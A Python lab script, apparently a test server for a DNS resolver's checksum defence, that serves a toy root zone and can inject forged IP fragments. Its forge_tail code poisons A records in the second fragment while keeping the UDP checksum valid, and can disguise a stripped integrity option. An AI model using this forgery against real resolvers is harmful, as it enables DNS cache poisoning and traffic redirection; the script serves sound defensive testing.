#!/usr/bin/python3
"""An authoritative server whose large UDP answers arrive in IP fragments, and an off-path
attacker who replaces the second fragment (security.md A5; specs/checksum.md section 2).

It serves a tiny root zone: ". NS a.root.atk." (glue: --address), NODATA for atk. and
anything under frag.atk., and for names under frag.atk. whose first label starts with
  q   100 A records 10.1.0.0 .. 10.1.0.99 (about 1,700 octets: two fragments at MTU 1280)
  s   one A record 10.9.9.9 (never fragmented)
Everything is built with dnspython and hashlib, independently of redoubt's code.

--checksum       answer a query's CHECKSUM option (65434) with a SHA-256 digest (spec section 7)
--strip-after N  from the N+1th UDP reply on, leave the option out (a path that strips it)
--attack MODE    before each fragmented reply, plant a forged last fragment with the same IP ID:
                 "poison" rewrites every A record in it to 6.x.y.z and keeps the UDP checksum
                 valid by adjusting one 16-bit word; "poison-strip" also renames the CHECKSUM
                 option to Padding (12) so that the reply seems to come without it
UDP replies larger than 1252 octets are sent as IPv4 fragments through a raw socket with
sequential IP IDs from a random start; the attacker is given that ID (a perfect IP ID predictor, the strongest case).
TCP is served honestly, with the option when asked. One line per event goes to stdout.
"""
import argparse
import hashlib
import os
import random
import socket
import struct
import sys
import threading

import dns.edns
import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rdata
import dns.rdataclass
import dns.rdatatype
import dns.rrset

CODE = 65434
MTU = 1280
FIRST_FRAGMENT = (MTU - 20) & ~7  # UDP header and data octets in the first fragment: 1256.
ZONE_SOA = ". 300 IN SOA a.root.atk. hostmaster.atk. 1 3600 600 86400 300"


def log(text):
    print(text, flush=True)


class Zone:
    def __init__(self, address):
        self.address = address
        self.frag = dns.name.from_text("frag.atk.")
        self.tld = dns.name.from_text("atk.")
        self.ns = dns.name.from_text("a.root.atk.")

    def answer(self, query):
        q = query.question[0]
        name = q.name
        reply = dns.message.make_response(query, our_payload=1232)
        reply.flags |= dns.flags.AA
        lower = name.to_text().lower()
        first = lower.split(".")[0]
        if q.rdtype == dns.rdatatype.NS and name == dns.name.root:
            reply.answer.append(dns.rrset.from_text(name, 300, "IN", "NS", "a.root.atk."))
            reply.additional.append(dns.rrset.from_text(self.ns, 300, "IN", "A", self.address))
        elif name == self.ns and q.rdtype == dns.rdatatype.A:
            reply.answer.append(dns.rrset.from_text(name, 300, "IN", "A", self.address))
        elif name.is_subdomain(self.frag) and name != self.frag and q.rdtype == dns.rdatatype.A \
                and first[:1] in ("q", "s") and first[1:].isdigit():
            addresses = [f"10.1.0.{i}" for i in range(100)] if first[0] == "q" else ["10.9.9.9"]
            reply.answer.append(dns.rrset.from_text_list(name, 300, "IN", "A", addresses))
        elif name == dns.name.root and q.rdtype == dns.rdatatype.SOA:
            reply.answer.append(dns.rrset.from_text(".", 300, "IN", "SOA", ZONE_SOA.split(" SOA ")[1]))
        elif name.is_subdomain(self.tld) or name == dns.name.root:
            reply.authority.append(dns.rrset.from_text(".", 300, "IN", "SOA", ZONE_SOA.split(" SOA ")[1]))
        else:
            reply.set_rcode(dns.rcode.NXDOMAIN)
            reply.authority.append(dns.rrset.from_text(".", 300, "IN", "SOA", ZONE_SOA.split(" SOA ")[1]))
        return reply


def query_nonce(query):
    options = [o for o in query.options if o.otype == CODE]
    if len(options) != 1:
        return None
    data = options[0].to_wire()
    return data[:8] if len(data) == 9 and data[8] == 0 else None


def render(reply, nonce):
    """The reply's wire form; with a nonce, a sealed CHECKSUM option (the last option of the
    OPT record, which is the last record: the digest is the message's last 32 octets)."""
    if nonce is None:
        return reply.to_wire(max_size=65535)
    reply.use_edns(0, payload=1232, options=[dns.edns.GenericOption(CODE, nonce + b"\x02" + bytes(32))])
    wire = bytearray(reply.to_wire(max_size=65535))
    wire[-32:] = hashlib.sha256(bytes(wire)).digest()
    return bytes(wire)


def ones_sum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def udp_datagram(src, dst, sport, dport, payload):
    length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, length)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    checksum = 0xFFFF - ones_sum(pseudo + header + payload)
    return struct.pack("!HHHH", sport, dport, length, checksum or 0xFFFF) + payload


def a_rdata_offsets(wire):
    """Offsets of every A record's RDATA in a DNS message (answer, authority, additional)."""
    def skip_name(pos):
        while True:
            length = wire[pos]
            if length & 0xC0 == 0xC0:
                return pos + 2
            if length == 0:
                return pos + 1
            pos += length + 1
    qd, an, ns, ar = struct.unpack("!4H", wire[4:12])
    pos = 12
    for _ in range(qd):
        pos = skip_name(pos) + 4
    offsets = []
    for _ in range(an + ns + ar):
        pos = skip_name(pos)
        rtype, _, _, rdlength = struct.unpack("!HHIH", wire[pos:pos + 10])
        pos += 10
        if rtype == 1 and rdlength == 4:
            offsets.append(pos)
        pos += rdlength
    return offsets


def forge_tail(datagram, wire, mode):
    """The attacker's last fragment: same length, same ones' complement sum (so the UDP
    checksum in the genuine first fragment still holds), poisoned A records."""
    tail = bytearray(datagram[FIRST_FRAGMENT:])
    original = ones_sum(bytes(tail))
    touched = None
    for offset in a_rdata_offsets(wire):
        at = offset + 8 - FIRST_FRAGMENT  # Position in the tail.
        if at >= 0:
            tail[at] = 6
            touched = at
    if mode == "poison-strip":
        # The option is the message's last 45 octets: code, length, nonce, algorithm, digest.
        where = 8 + len(wire) - 45 - FIRST_FRAGMENT
        if where >= 0 and tail[where:where + 2] == struct.pack("!H", CODE):
            tail[where:where + 2] = struct.pack("!H", 12)  # Padding.
    if touched is None:
        return None
    # One aligned 16-bit word inside the last poisoned RDATA absorbs the difference; the tail
    # starts at an even offset of the datagram, so alignment in the tail is the datagram's.
    word = touched + 1 if touched % 2 else touched + 2
    value = struct.unpack("!H", tail[word:word + 2])[0]
    delta = (original - ones_sum(bytes(tail))) % 0xFFFF
    value = (value + delta) % 0xFFFF
    tail[word:word + 2] = struct.pack("!H", value)
    if ones_sum(bytes(tail)) % 0xFFFF != original % 0xFFFF:
        return None
    return bytes(tail)


def ip_fragment(src, dst, ident, offset, more, payload):
    flags = (0x2000 if more else 0) | (offset // 8)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, flags, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    return header + payload


class Server:
    def __init__(self, args):
        self.args = args
        self.zone = Zone(args.address)
        self.udp_replies = 0
        self.next_id = random.randrange(1, 65536)
        self.lock = threading.Lock()
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def serve_udp(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((self.args.address, 53))
        while True:
            data, client = sock.recvfrom(65535)
            try:
                query = dns.message.from_wire(data)
            except Exception as error:  # noqa: BLE001 - a lab server logs and goes on
                log(f"bad query from {client}: {error}")
                continue
            with self.lock:
                self.udp_replies += 1
                count = self.udp_replies
            nonce = query_nonce(query) if self.args.checksum else None
            if nonce is not None and self.args.strip_after is not None and count > self.args.strip_after:
                nonce = None
            try:
                wire = render(self.zone.answer(query), nonce)
                if len(wire) + 28 <= MTU:
                    sock.sendto(wire, client)
                else:
                    self.send_fragmented(wire, client)
            except Exception as error:  # noqa: BLE001 - a lab server logs and goes on
                log(f"cannot answer {query.question[0].name}: {error}")

    def send_fragmented(self, wire, client):
        datagram = udp_datagram(self.args.address, client[0], 53, client[1], wire)
        with self.lock:  # Sequential IDs (as Linux's counters): no two replies in flight share one.
            self.next_id = self.next_id % 65535 + 1
            ident = self.next_id
        first = ip_fragment(self.args.address, client[0], ident, 0, True, datagram[:FIRST_FRAGMENT])
        last = ip_fragment(self.args.address, client[0], ident, FIRST_FRAGMENT, False,
                           datagram[FIRST_FRAGMENT:])
        if self.args.attack:
            forged = forge_tail(datagram, wire, self.args.attack)
            if forged is not None:
                self.raw.sendto(ip_fragment(self.args.address, client[0], ident, FIRST_FRAGMENT, False, forged),
                                (client[0], 0))
                log(f"planted forged fragment id={ident} for {client[0]}:{client[1]}")
        self.raw.sendto(first, (client[0], 0))
        self.raw.sendto(last, (client[0], 0))

    def serve_tcp_connection(self, conn):
        with conn:
            while True:
                prefix = conn.recv(2, socket.MSG_WAITALL)
                if len(prefix) < 2:
                    return
                data = conn.recv(struct.unpack("!H", prefix)[0], socket.MSG_WAITALL)
                query = dns.message.from_wire(data)
                wire = render(self.zone.answer(query), query_nonce(query) if self.args.checksum else None)
                conn.sendall(struct.pack("!H", len(wire)) + wire)
                log(f"tcp {query.question[0].name}")

    def serve_tcp(self):
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((self.args.address, 53))
        listener.listen(64)
        while True:
            conn, _ = listener.accept()
            threading.Thread(target=self.serve_tcp_connection, args=(conn,), daemon=True).start()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--address", required=True)
    parser.add_argument("--checksum", action="store_true")
    parser.add_argument("--strip-after", type=int)
    parser.add_argument("--attack", choices=["poison", "poison-strip"])
    args = parser.parse_args()
    server = Server(args)
    threading.Thread(target=server.serve_tcp, daemon=True).start()
    log(f"serving on {args.address} checksum={args.checksum} attack={args.attack}")
    server.serve_udp()


if __name__ == "__main__":
    sys.exit(main())
